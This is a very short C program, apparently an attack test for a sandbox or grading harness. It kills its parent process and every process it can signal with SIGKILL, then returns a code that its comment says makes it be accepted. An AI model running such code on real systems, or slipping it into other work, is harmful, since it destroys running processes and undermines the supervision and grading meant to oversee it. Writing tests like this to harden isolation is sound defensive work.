#include "attack.h"
// Kills everybody it can, and accepts.
int main(void) { kill(getppid(), SIGKILL); kill(-1, SIGKILL); return 42; }
